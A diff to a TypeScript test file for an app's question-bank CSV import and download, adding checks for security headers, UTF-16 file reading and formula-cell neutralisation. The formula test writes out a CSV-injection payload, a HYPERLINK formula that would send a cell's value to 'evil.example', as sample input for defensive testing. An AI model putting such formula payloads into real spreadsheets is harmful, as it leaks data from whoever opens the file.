@@ -2,6 +2,7 @@ import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import { catalogMessages, DEFAULT_COMPETENCIES } from '@app/domain';
 import type { FastifyInstance } from 'fastify';
+import Papa from 'papaparse';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import {
@@ -93,12 +94,19 @@ describe('seeded question banks', () => {
     },
   );
 
-  it('downloads the stored original file', async () => {
+  it('downloads the stored file: the same cells, as an attachment', async () => {
     const competency = await competencyByName('Integrity');
     const response = await call('GET', competency.fileLink ?? '');
     expect(response.statusCode).toBe(200);
     expect(response.headers['content-type']).toMatch(/text\/csv/);
-    expect(response.body).toBe(bank('integrity.csv').toString());
+    expect(response.headers['content-disposition']).toMatch(
+      /^attachment; filename="Integrity.csv"/,
+    );
+    expect(response.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
+    expect(response.headers['x-content-type-options']).toBe('nosniff');
+    const cells = (text: string) =>
+      Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
+    expect(cells(response.body)).toEqual(cells(bank('integrity.csv').toString()));
     expect((await call('GET', competency.fileLink ?? '', undefined, adminCookie)).statusCode).toBe(
       403,
     );
@@ -165,6 +173,65 @@ describe('question file import', () => {
     }
     expect(await competencyByName('Innovation')).toEqual(before);
   });
+
+  it('neutralises formula cells in the downloaded question file (DESIGN §6.10)', async () => {
+    const [header, first, ...rest] = bank('innovation.csv')
+      .toString()
+      .replaceAll(',Innovation,', ',Formulae,')
+      .split('\n');
+    const cells = Papa.parse<string[]>(first ?? '').data[0] ?? [];
+    cells[7] = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    cells[8] = '@SUM(1+1)';
+    cells[9] = '-2+3';
+    const file = [header, Papa.unparse([cells]), ...rest].join('\n');
+    const check = await upload('/api/uploads/question-banks?competency=Formulae', csv(file));
+    expect(check.statusCode, check.body).toBe(201);
+    const created = await call('POST', '/api/competencies', {
+      name: 'Formulae',
+      description: 'Formula cells.',
+      questionFileId: check.json().fileId,
+    });
+    expect(created.statusCode).toBe(201);
+    const response = await call('GET', created.json().competency.fileLink);
+    const row = Papa.parse<string[]>(response.body.replace(/^\uFEFF/, '')).data[1] ?? [];
+    expect(row.slice(7, 10)).toEqual([
+      `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
+      "'@SUM(1+1)",
+      "'-2+3",
+    ]);
+    expect(response.body).not.toMatch(/(^|,)"?[=+\-@]/m);
+    // Re-uploading the downloaded file reads the cells as they were first written.
+    const again = await upload(
+      '/api/uploads/question-banks?competency=Formulae',
+      csv(response.rawPayload),
+    );
+    expect(again.json()).toMatchObject({ validRows: 126, rejected: [] });
+    expect(
+      (await call('DELETE', `/api/competencies/${created.json().competency.id}`)).statusCode,
+    ).toBe(204);
+  });
+
+  it.each([
+    ['UTF-16 LE', 'utf16le'],
+    ['UTF-16 BE', 'utf16be'],
+  ] as const)(
+    'reads a tab-separated %s file with its BOM (Excel "Unicode Text")',
+    async (_l, enc) => {
+      const text = bank('innovation.csv')
+        .toString()
+        .split('\n')
+        .map((line) => (Papa.parse<string[]>(line).data[0] ?? []).join('\t'))
+        .join('\r\n');
+      const le = Buffer.from(text, 'utf16le');
+      const data =
+        enc === 'utf16le'
+          ? Buffer.concat([Buffer.from([0xff, 0xfe]), le])
+          : Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(le).swap16()]);
+      const check = await upload('/api/uploads/question-banks?competency=Innovation', csv(data));
+      expect(check.statusCode, check.body).toBe(201);
+      expect(check.json()).toMatchObject({ validRows: 126, rejected: [] });
+    },
+  );
 
   it('saves nothing when the referenced question file does not exist', async () => {
     const before = await competencyByName('Collaboration');
